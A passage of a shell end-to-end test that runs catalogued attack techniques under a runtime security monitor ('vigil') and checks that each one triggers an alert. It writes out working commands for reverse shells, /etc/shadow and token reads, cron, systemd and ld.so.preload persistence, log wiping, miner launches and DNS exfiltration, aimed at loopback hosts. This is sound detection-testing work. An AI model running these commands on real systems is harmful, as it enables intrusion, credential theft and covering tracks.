t_shadow_long() { nobody "$P/open_via" sys "/etc/$(printf './%.0s' $(seq 1500))shadow"; }
t_shadow_python() { python3 -c 'import os
fi = os.open("/etc/shadow", os.O_RDONLY | os.O_NONBLOCK | os.O_NOATIME)
fo = os.open(os.devnull, os.O_WRONLY)
os.copy_file_range(fi, fo, 4096)'; }
t_shell_via_ldso() { find "$W/findroot" -maxdepth 0 -exec /lib64/ld-linux-x86-64.so.2 /bin/sh -c id \; ; }
t_shell_via_symlink() { find "$W/findroot" -maxdepth 0 -exec "$W/lnk/helper" -c id \; ; }
t_shell_via_env() { find "$W/findroot" -maxdepth 0 -exec /usr/bin/env sh -c id \; ; }
t_busybox_sh() { find "$W/findroot" -maxdepth 0 -exec busybox sh -c id \; ; }
t_drop_rename_exec() { cp /usr/bin/tty "$W/build/p.tmp"; chmod 755 "$W/build/p.tmp"; mv "$W/build/p.tmp" "$W/drop/renamed"; "$W/drop/renamed"; }
t_drop_fexecve() { python3 -c 'import os, shutil, sys
shutil.copyfile("/usr/bin/tty", sys.argv[1]); os.chmod(sys.argv[1], 0o755)
os.execve(os.open(sys.argv[1], os.O_RDONLY), ["tty"], {})' "$W/drop/fx"; }
t_replace_known() { cp /usr/bin/tty "$W/bin/tool"; "$W/bin/tool" 0.1; }
t_replace_outside() { "$W/bin/tool2" 0.1; }
t_udp_redirect() { "$P/udp_send" connected 127.0.0.1 5300 127.0.0.6 5306; }
t_udp_sendmsg() { "$P/udp_send" sendmsg 127.0.0.7 5307; }
t_udp6_mapped() { "$P/udp_send" sendto ::ffff:127.0.0.8 5308; }
t_udp6_loopback() { "$P/udp_send" sendto ::1 5309; }
t_tcp6_mapped() { connect ::ffff:127.0.0.2 7001 secret; }
t_pool_dns_case() { "$P/dns_query" POOL.SupportXMR.COM 127.0.0.1 53; }
t_miner_algo_eq() { "$W/bin/systemd-journal" --algo=rx/0; }
t_history_redirect() { : >"$W/home/.bash_history"; }
t_history_rename_away() { mv "$W/home/.bash_history" "$W/home/old"; }
t_history_size() { HISTSIZE=0 /bin/sleep 1; }
t_setcap() { setcap cap_setuid+ep "$W/capfile"; }
t_setcap_uring() { "$P/red_uring_setcap" path "$W/capfile2"; }
t_setcap_uring_fd() { "$P/red_uring_setcap" fd "$W/capfile3"; }
t_setuid_fchmodat2() { python3 -c 'import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall(452, -100, sys.argv[1].encode(), 0o4755, 0)' "$W/suid"; }
t_setuid_uring_creat() { "$P/open_via" -x 65 -m 4755 uring "$W/suid-uring"; }
t_ptrace_seize() { python3 -c 'import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
pid = os.fork()
if pid == 0:
    time.sleep(1); os._exit(0)
libc.ptrace(0x4206, pid, 0, 0); os.kill(pid, 9); os.waitpid(pid, 0)'; }
t_proc_mem_write() { python3 -c 'import ctypes, os, time
buf = ctypes.create_string_buffer(b"safe", 8)
pid = os.fork()
if pid == 0:
    time.sleep(1); os._exit(0)
fd = os.open("/proc/%d/mem" % pid, os.O_RDWR)
os.pwrite(fd, b"evil", ctypes.addressof(buf)); os.kill(pid, 9); os.waitpid(pid, 0)'; }
t_vm_writev() { "$P/red_vm_write" write; }
t_cron_uring() { nobody "$P/open_via" -x 1089 uring /etc/cron.d/vigil-t2500-u; }
t_cron_dirfd() { nobody "$P/open_via" -x 1089 -d /etc/cron.d sys vigil-t2500-d; }
t_authorized_keys_openat2() { nobody "$P/open_via" -x 1089 openat2 /root/.ssh/authorized_keys; }
t_flood_shadow() { "$P/open_flood" 2; "$P/open_via" -x 12288 sys /etc/shadow; }

t_revshell_bash_tcp() { bash -c 'exec 3<>/dev/tcp/127.0.0.9/7101; echo id >&3' 2>/dev/null; }
t_revshell_bash_udp() { bash -c 'exec 3<>/dev/udp/127.0.0.9/7102; echo id >&3'; }
t_revshell_python() { python3 -c 'import os, socket
s = socket.socket()
s.settimeout(2)
try:
    s.connect(("127.0.0.10", 7103))
except OSError:
    pass
os.dup2(s.fileno(), 3)'; }
t_revshell_perl() { perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
connect(S, sockaddr_in(7104, inet_aton("127.0.0.11"))); open(STDIN, ">&S");'; }
t_revshell_openssl() { timeout 5 openssl s_client -quiet -connect 127.0.0.12:7105 </dev/null; }
t_revshell_ldso() { find "$W/findroot" -maxdepth 0 -exec /lib64/ld-linux-x86-64.so.2 /bin/bash -c 'exec 3<>/dev/tcp/127.0.0.1/7000' \; ; }
t_busybox_renamed() { find "$W/findroot" -maxdepth 0 -exec "$W/bin/busyboxd" sh -c id \; ; }
t_busybox_link_sh() { find "$W/findroot" -maxdepth 0 -exec "$W/lnk/sh" -c id \; ; }
t_tmpfile_exec() { python3 -c 'import os, sys
fd = os.open(sys.argv[1], os.O_TMPFILE | os.O_RDWR, 0o755)
os.write(fd, open("/usr/bin/tty", "rb").read())
ro = os.open("/proc/self/fd/%d" % fd, os.O_RDONLY)
os.close(fd)
os.execve(ro, ["tty"], {})' "$W/drop"; }
t_miner_coin_xmr() { "$W/bin/kthreadd" --coin=XMR --tls -o 127.0.0.1:14433; }
t_miner_cn_algo() { "$W/bin/systemd-journal" -a cn/r -o 127.0.0.1:14444; }
t_miner_stratum_ssl() { "$W/bin/kthreadd" --url=stratum+ssl://127.0.0.1:443; }
t_cron_rename() { nobody mv "$W/data.txt" /etc/cron.d/vigil-t2500-r; }
t_systemd_symlink() { nobody "$P/link_to" sym "$W/data.txt" /etc/systemd/system/vigil-t2500-l.service; }
t_authorized_keys_link() { nobody ln "$W/data.txt" /root/.ssh/authorized_keys2; }
t_ld_so_preload_rename() { nobody mv "$W/data.txt" /etc/ld.so.preload; }
t_ld_so_conf_d() { try_write /etc/ld.so.conf.d/vigil-t2500.conf; }
t_modprobe_d() { try_write /etc/modprobe.d/vigil-t2500.conf; }
t_apt_hook() { try_write /etc/apt/apt.conf.d/99vigil-t2500; }
t_logrotate_hook() { try_write /etc/logrotate.d/vigil-t2500; }
t_shadow_proc1_root() { "$P/open_via" -x 16384 sys "/proc/$H/root/etc/shadow"; }
t_shadow_proc_cwd() { (cd /etc && "$P/open_via" -x 32768 sys /proc/self/cwd/shadow); }
t_sa_token_data() { cat "$SA/..data/token"; }
t_sa_token_dirfd() { "$P/open_via" -x 2048 -d "$SA/..2026_12_07_00_00_00.000000001" sys token; }
t_environ_task() { cat "/proc/$H/task/$H/environ"; }
t_history_overwrite() { dd if=/dev/zero of="$W/home/.sh_history" bs=1 count=2 conv=notrunc; }
t_history_shred() { shred -u "$W/home/.mysql_history"; }
t_history_uring_trunc() { "$P/open_via" -x 513 uring "$W/home/.psql_history"; }
t_clone_newuser() { python3 -c 'import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
pid = libc.syscall(56, 0x10000000 | 0x00020000 | 17, 0, 0, 0, 0)
if pid == 0:
    os._exit(0)
if pid > 0:
    os.waitpid(pid, 0)'; }
t_dns_exfil_hex() { "$P/dns_query" 726f6f743a783a303a303a726f6f74.x.example.net 127.0.0.1 53; }
t_busybox_copy_argv0() { find "$W/findroot" -maxdepth 0 -exec "$P/exec_via" execveat "$W/bin/update" sh -c id \; ; }
t_cron_uring_rename() { nobody "$P/rename_via" uring "$W" data.txt /etc/cron.d/vigil-t2500-ur; }
t_systemd_uring_symlink() { nobody "$P/red_uring_link" sym "$W/data.txt" /etc/systemd/system/vigil-t2500-us.service; }
t_wtmp_clear() { nobody "$P/open_via" -x 513 sys /var/log/wtmp; }
t_btmp_truncate() { nobody perl -e 'truncate("/var/log/btmp", 0)'; }
t_authlog_rm() { nobody rm -f /var/log/auth.log; }
t_raw_icmp() { python3 -c 'import socket
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("127.0.0.13", 0))'; }

while read -r id; do
	case $id in
	benign) benign ;;
	*) "t_$(echo "$id" | tr - _)"; /bin/echo fence "$id" ;;
	esac
done <"$PLAN" >/dev/null 2>&1
exit 0
EOF
} >"$RUN"

echo benign >"$PLAN"
"$VIGIL" learn --out "$TEST_TMP/profile.yaml" --name scenarios -- /bin/sh "$RUN" \
	2>"$TEST_TMP/learn.err" || fail "vigil learn failed: $(cat "$TEST_TMP/learn.err")"
for want in /usr/bin/find "$W/mnt/tool-ok" /usr/bin/ssh "port: 7000"; do
	assert_file_contains "$TEST_TMP/profile.yaml" "$want"
done

# watch NAME: runs the plan under vigil watch, every rule on, every repeat sent
watch()
{
	ALERTS=$TEST_TMP/alerts-$1.jsonl
	set +e
	"$VIGIL" watch --profile "$TEST_TMP/profile.yaml" --name scenarios --enable all \
		--cooldown 0 --alerts "file:$ALERTS" -- /bin/sh "$RUN" \
		>"$TEST_TMP/watch-$1.out" 2>"$TEST_TMP/watch-$1.err"
	RC=$?
	set -e
	[ -f "$ALERTS" ] || : >"$ALERTS"
}

# ---- the benign rerun: quiet, with every rule on ---------------------------------------------
watch benign
assert_eq 0 "$(json_count "$ALERTS")" "alerts on the benign rerun: $(head -c 3000 "$ALERTS")"
assert_eq 0 "$RC" "exit status of the benign rerun ($(cat "$TEST_TMP/watch-benign.err"))"

# ---- the attacks, one watch per group --------------------------------------------------------
failed=0
# the outside world changes a program the profile runs (an image layer, a volume, another
# process with the file): group E runs it
cp /bin/true "$W/bin/tool2"
for group in ${VIGIL_T2500_GROUPS:-A B C D E F}; do
	awk -F'|' -v g="$group" '$1 == g || (g == "D" && $1 == "gap") { print $2 }' "$TABLE" >"$PLAN"
	watch "$group"
	assert_eq 1 "$RC" "exit status of group $group ($(cat "$TEST_TMP/watch-$group.err"))"
	python3 "$VIGIL_ROOT/tests/e2e/t2500-scenarios.py" "$TABLE" "$group" "$ALERTS" \
		>"$TEST_TMP/judge-$group.txt" || failed=1
	cat "$TEST_TMP/judge-$group.txt" >&2
done
[ "$failed" = 0 ] || fail "techniques missed (above; alerts in $TEST_TMP/alerts-*.jsonl)"
n=$(grep -c '^ok ' "$TEST_TMP"/judge-*.txt | awk -F: '{ s += $2 } END { print s }')
assert_ge "$n" 152 "techniques detected"
log "$n techniques detected, each quiet on the benign rerun"
